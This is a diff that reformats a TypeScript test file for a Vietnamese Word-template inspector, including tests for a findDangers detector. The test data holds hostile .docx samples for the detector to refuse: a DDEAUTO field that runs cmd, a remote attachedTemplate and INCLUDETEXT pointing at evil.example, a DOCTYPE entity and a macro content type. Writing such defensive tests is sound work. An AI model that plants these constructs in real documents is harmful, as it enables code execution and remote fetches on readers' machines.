@@ -35,7 +35,8 @@ const form: FormDefinition = {
   title: both('Mẫu'),
 }
 const names = templateNames([form])
-const told = (...lines: string[]) => inspectTemplate(aDocx(lines), names).problems.map(({ message }) => message.vi)
+const told = (...lines: string[]) =>
+  inspectTemplate(aDocx(lines), names).problems.map(({ message }) => message.vi)
 
 describe('inspectTemplate', () => {
   it('should take a sound template and tell what its tags read', () => {
@@ -55,7 +56,10 @@ describe('inspectTemplate', () => {
   })
 
   it.each([
-    ['{dossier.cod}', /^Thân văn bản, đoạn 2 \(«\{dossier\.cod\}»\): thẻ \{dossier\.cod\}: Biểu thức dùng tên “cod” không có/],
+    [
+      '{dossier.cod}',
+      /^Thân văn bản, đoạn 2 \(«\{dossier\.cod\}»\): thẻ \{dossier\.cod\}: Biểu thức dùng tên “cod” không có/,
+    ],
     ['{answers.khongCo}', /“khongCo” không có/],
     ['{ten}', /“ten” không có/],
     ['{#danhSach}{tenn}{/}', /“tenn” không có/],
@@ -93,19 +97,28 @@ describe('findDangers', () => {
   it.each([
     ['word/document.xml', '<!DOCTYPE a [<!ENTITY b "c">]><w:document/>', /DOCTYPE/],
     ['word/_rels/document.xml.rels', relation('image', 'http://evil.example/a.png'), /lấy từ nơi khác/],
-    ['word/_rels/settings.xml.rels', relation('attachedTemplate', 'http://evil.example/a.dotm'), /lấy từ nơi khác/],
+    [
+      'word/_rels/settings.xml.rels',
+      relation('attachedTemplate', 'http://evil.example/a.dotm'),
+      /lấy từ nơi khác/,
+    ],
     ['word/document.xml', '<w:instrText>DDEAUTO c:\\\\windows "cmd"</w:instrText>', /chạy chương trình/],
     ['word/document.xml', '<w:instrText> INCLUDETEXT "http://evil.example/a" </w:instrText>', /tệp khác/],
     ['word/document.xml', '<w:altChunk r:id="r"/>', /altChunk/],
     ['[Content_Types].xml', 'application/vnd.ms-word.document.macroEnabled.main+xml', /macro/],
   ])('should refuse %s with %s', (name, text, expected) => {
-    expect(findDangers([{ name, text }]).map(({ message }) => message.vi)).toEqual([expect.stringMatching(expected)])
+    expect(findDangers([{ name, text }]).map(({ message }) => message.vi)).toEqual([
+      expect.stringMatching(expected),
+    ])
   })
 
   it('should let links to be clicked, page numbers and plain words be', () => {
     const parts = [
       { name: 'word/_rels/document.xml.rels', text: relation('hyperlink', 'https://thidua.example.vn') },
-      { name: 'word/document.xml', text: '<w:instrText> PAGE </w:instrText><w:t>LINK và DATABASE, IMPORT hàng</w:t>' },
+      {
+        name: 'word/document.xml',
+        text: '<w:instrText> PAGE </w:instrText><w:t>LINK và DATABASE, IMPORT hàng</w:t>',
+      },
     ]
     expect(findDangers(parts)).toEqual([])
   })
